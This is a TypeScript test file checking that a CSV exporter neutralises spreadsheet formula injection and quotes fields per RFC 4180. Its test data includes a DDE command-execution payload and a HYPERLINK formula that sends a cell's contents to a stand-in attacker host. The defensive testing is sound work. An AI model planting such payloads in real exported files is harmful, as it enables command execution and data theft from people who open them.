// The CSV writer with hostile cells: nothing a spreadsheet would run survives as a formula, real
// numbers in a number column stay numbers, and quoting follows RFC 4180.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, toCsv } from '../../../electron/export/csv.ts';

/** Splits an RFC 4180 file back into fields (quoted fields may hold commas, quotes, newlines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (inQuotes) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') inQuotes = false;
      else field += c;
    } else if (c === '"' && field === '') inQuotes = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  assert.equal(field + row.join(''), '', 'the file ends with CRLF');
  return rows;
}

const hostile = [
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  ' \u00a0@cmd',
  '\uff1d1+1',
  '-12.50',
  '-',
];

test('a text cell that a spreadsheet would run as a formula starts with an apostrophe', () => {
  for (const cell of hostile) {
    const [[field]] = parseCsv(`${csvField(cell)}\r\n`) as [[string]];
    assert.equal(field, `'${cell}`, JSON.stringify(cell));
  }
});

test('a number column keeps real numbers as numbers and escapes anything else in it', () => {
  assert.equal(csvField(-1250, 'number'), '-1250');
  assert.equal(csvField(-12.5, 'number'), '-12.5');
  assert.equal(csvField('-12.50', 'number'), '-12.50');
  assert.equal(csvField(0, 'number'), '0');
  assert.equal(csvField("-2+3+cmd|' /C calc'!A0", 'number'), "'-2+3+cmd|' /C calc'!A0");
  assert.equal(csvField('-1e5', 'number'), "'-1e5");
  assert.equal(csvField('-12.50 ', 'number'), "'-12.50 ");
  assert.equal(csvField(Number.NaN, 'number'), 'NaN');
  assert.equal(csvField(-Infinity, 'number'), "'-Infinity");
  assert.equal(csvField(null, 'number'), '');
});

test('ordinary text is left as it is; commas, quotes and line breaks are quoted per RFC 4180', () => {
  assert.equal(csvField('Chargeback reversal'), 'Chargeback reversal');
  assert.equal(csvField('2026-01-02 10:00:00'), '2026-01-02 10:00:00');
  assert.equal(csvField('a - b'), 'a - b');
  assert.equal(csvField('Acme, Inc.'), '"Acme, Inc."');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('line 1\nline 2'), '"line 1\nline 2"');
  assert.equal(csvField('line 1\r\nline 2'), '"line 1\r\nline 2"');
  assert.equal(csvField('=1,"2"\n'), `"'=1,""2""\n"`);
  assert.equal(csvField(undefined), '');
});

test('a whole file reads back as the same rows, hostile text defused and amounts numeric', () => {
  interface Row {
    amount: unknown;
    description: string;
  }
  const rows: Row[] = [
    ...hostile.map((description, i) => ({ amount: -(i + 1) * 125, description })),
    { amount: '12.50', description: 'Acme, "quoted"\nnext line' },
  ];
  const text = toCsv<Row>(
    [
      { header: 'amount', kind: 'number', value: (r) => r.amount },
      { header: 'description', kind: 'text', value: (r) => r.description },
    ],
    rows,
  );
  const back = parseCsv(text);
  assert.deepEqual(back[0], ['amount', 'description']);
  assert.equal(back.length, rows.length + 1);
  for (const [i, r] of rows.entries()) {
    const [amount, description] = back[i + 1]!;
    assert.equal(Number(amount), Number(r.amount), 'the amount is a number a spreadsheet can sum');
    assert.ok(
      !/^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/.test(description!),
      `not a formula: ${JSON.stringify(description)}`,
    );
    assert.equal(description!.replace(/^'/, ''), r.description);
  }
});
